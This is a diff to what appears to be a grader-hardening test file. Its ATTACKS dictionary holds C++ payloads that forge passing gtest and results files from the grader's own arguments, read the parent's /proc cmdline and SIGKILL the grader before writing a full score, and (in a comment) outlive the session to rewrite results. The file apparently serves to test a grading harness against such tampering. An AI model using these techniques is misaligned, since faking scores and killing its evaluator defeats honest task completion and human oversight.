@@ -116,31 +116,56 @@ def payload(body, **paths):
 # repository), out (the results directory of this submission), marker (a
 # file outside everything the grader owns).
 ATTACKS = {
-    # 1. A passing report where the grader reads verdicts: any --gtest_output
-    # or --lrt-results file named on any command line it can see.
+    # 1. A passing report where the grader reads verdicts: the test named
+    # by --gtest_filter, written to the --gtest_output file, then an exit
+    # before anything can contradict it. The same for --lrt-results.
     'forged_report': r'''
-static char where[4096];
+static char where[4096], test[4096];
 findArgument("--gtest_output=json:", where);
-if (where[0]) put(where, "{\"testsuites\": []}");
+findArgument("--gtest_filter=", test);
+if (where[0] && test[0]) {
+    static char json[16384];
+    long dot = 0;
+    while (test[dot] && test[dot] != '.') ++dot;
+    test[dot] = 0;
+    cat(json, "{\"testsuites\": [{\"name\": \"", test);
+    cat(json, json, "\", \"testsuite\": [{\"name\": \"");
+    cat(json, json, test + dot + 1);
+    cat(json, json, "\", \"status\": \"RUN\", \"result\": \"COMPLETED\"}]}]}");
+    put(where, json);
+    put({marker}, "forged");
+    sys(231, 0);                                       // exit_group(0)
+}
 findArgument("--lrt-results=", where);
-if (where[0]) put(where, "{\"test\": \"x\", \"passed\": true}\n");
-put({marker}, "forged");
+if (where[0]) {
+    put(where, "{\"test\": \"x\", \"passed\": true}\n");
+    put({marker}, "forged");
+}
 ''',
-    # 2. Kill the grader (every process whose command line names grade.py,
-    # and the parent), then write a full score where it would have.
+    # 2. Kill the grader that runs this test (the parent), after reading on
+    # its command line where it writes the results, and write a full score
+    # there.
     'killed_grader': r'''
-static char out[4096];
-findArgument("--out", out);
-eachProcess([&](long pid, const char *args, long n) {
-    for (const char *a = args; a < args + n; a += len(a) + 1)
-        for (const char *p = a; *p; ++p)
-            if (startsWith(p, "grade.py") || startsWith(p, "judge")) sys(62, pid, 9);
-});
-sys(62, sys(110), 9);                                  // kill(getppid(), SIGKILL)
-static char path[4096];
-cat(path, out[0] ? out : {out}, "/results.json");
-put(path, "{\"score\": 7, \"max_score\": 7, \"tests\": []}");
-put({marker}, "killed");
+static char path[4096], out[4096];
+long parent = sys(110);                                // getppid()
+char number[24];
+long k = 22;
+number[23] = 0;
+for (long p = parent; k >= 0 && (p > 0 || k == 22); p /= 10) number[k--] = char('0' + p % 10);
+cat(path, "/proc/", number + k + 1);
+cat(path, path, "/cmdline");
+long n = slurp(path);
+out[0] = 0;
+for (const char *a = buf; n > 0 && a < buf + n; a += len(a) + 1)
+    if (startsWith(a, "--out") && a + len(a) + 1 < buf + n) cat(out, a + len(a) + 1, "");
+sys(62, parent, 9);                                    // kill(parent, SIGKILL)
+if (out[0]) {
+    cat(path, out, "/results.json");
+    put(path, "{\"score\": 7, \"max_score\": 7, \"tests\": [], \"extra_data\": "
+              "{\"exercises\": [{\"chapter\": \"05\", \"exercise\": \"ex-5.9\", "
+              "\"points\": 7, \"max_points\": 7}]}}");
+    put({marker}, "killed");
+}
 ''',
     # 3. A process that leaves the session, outlives the test, and rewrites
     # the results after the grader has finished.
